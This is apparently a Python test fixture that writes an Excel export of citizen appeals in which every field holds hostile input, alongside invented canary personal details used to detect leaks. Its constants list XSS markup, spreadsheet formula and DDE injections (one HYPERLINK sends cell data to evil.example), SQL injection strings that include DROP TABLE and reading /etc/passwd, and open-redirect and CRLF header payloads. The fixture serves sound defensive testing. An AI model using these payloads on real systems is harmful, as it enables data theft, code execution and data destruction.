"""What attackers write: into files, addresses, headers and forms. Names and contacts are invented, they are canaries:
wherever they turn up without a right, something leaks.
"""

from pathlib import Path

import openpyxl

NAME = "Канарейкина Кенара Щегловна"
PHONE = "+7 913 000-17-17"
EMAIL = "kanareika.kenara@example.org"
HOUSE_TEXT = "Прошу перезвонить."
CANARIES = ("Канарейкин", "913 000-17-17", "9130001717", "79130001717", "kanareika")
"""Forms in which the applicant of `write` could be recognised."""

MARKUP = (
    "<script>window.__xss=1;alert(1)</script>",
    "<img src=x onerror=\"window.__xss=2;alert(2)\" class='injected'>",
    "\"><svg/onload=window.__xss=3 class='injected'>",
    "<a href=\"javascript:window.__xss=4\" class='injected'>открыть</a>",
    "<iframe srcdoc='<script>parent.__xss=5</script>' class='injected'></iframe>",
    "</textarea></title></script><b class='injected'>жирный</b>",
    "{{constructor.constructor('window.__xss=6')()}}${window.__xss=7}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=8 class='injected'>",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"открыть")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
)
SQL = (
    "'",
    "' OR '1'='1",
    "1; DROP TABLE records; --",
    "') UNION SELECT applicant_name FROM identities --",
    "1 OR 1=1",
    '" OR ""="',
    "none') OR TRUE --",
    "water%00' --",
    "'; ATTACH 'x.db' AS x; COPY facts TO 'x.csv'; --",
    "read_csv('/etc/passwd')",
    "$as_of",
    "\\'; SELECT pg_sleep(9); --",
    "1/**/OR/**/1=1",
    "CASE WHEN 1=1 THEN 1 ELSE 1/0 END",
)
OTHER_SITES = (
    "//evil.example",
    "///evil.example",
    "https:evil.example",
    "https://evil.example/",
    "http:/evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/\tevil.example/..//evil.example",
    "/%09/evil.example",
    "//evil.example\\@127.0.0.1",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/\r\nLocation: https://evil.example",
    "/x\r\nSet-Cookie: mcu_session=evil",
    "\u2028//evil.example",
    " //evil.example",
    "@evil.example",
    ".evil.example",
    "//localhost@evil.example",
    "//[::1]evil.example",
    "/http://[",
    "//evil%E3%80%82example",
)
BAD_CODES = (
    "\x00",
    "0" * 11 + "1" + "9" * 5000,
    "\ufeff",
    "٣",
    "a" * 5000,
    "," * 5000,
    "../../etc/passwd",
    "\ud800",
    "🏔" * 50,
    "%00",
    "{}",
    "[]",
)

_HEADER = (
    "id", "Дата создания", "Текст Сообщения", "Тематика", "Категория", "Ответственное лицо", "Статус",
    "Ответ", "Населенный пункт", "Адрес", "Заявитель", "Телефон", "Тип",
)  # fmt: skip
FILE_NAME = "выгрузка <img src=x onerror=window.__xss=9>'\";.xlsx"
SHEET_NAME = "=1+1<b class='injected'>"


def write(folder: Path, topic: str) -> Path:
    """A workbook of the usual shape whose every text is hostile. topic: a label that the program knows."""
    path = folder / FILE_NAME
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = SHEET_NAME
    sheet.append(_HEADER)
    for number, text in enumerate((*MARKUP, *FORMULAS), start=1):
        own = f"{text} Меня зовут {NAME}, телефон {PHONE}, почта {EMAIL}. {HOUSE_TEXT}"
        row = (
            f"{text[:150]}{number}",
            f"{number:02}.06.2026 10:00",
            own,
            topic if number % 2 else text,
            text,
            text,
            "Закрыта" if number % 3 else text,
            f"{text} {NAME} {PHONE}",
            text,
            f"{text}, ул. Ленина, д. 5",
            f"{NAME} {text}",
            f"{PHONE} {EMAIL}",
            text,
        )
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    book.save(path)
    return path
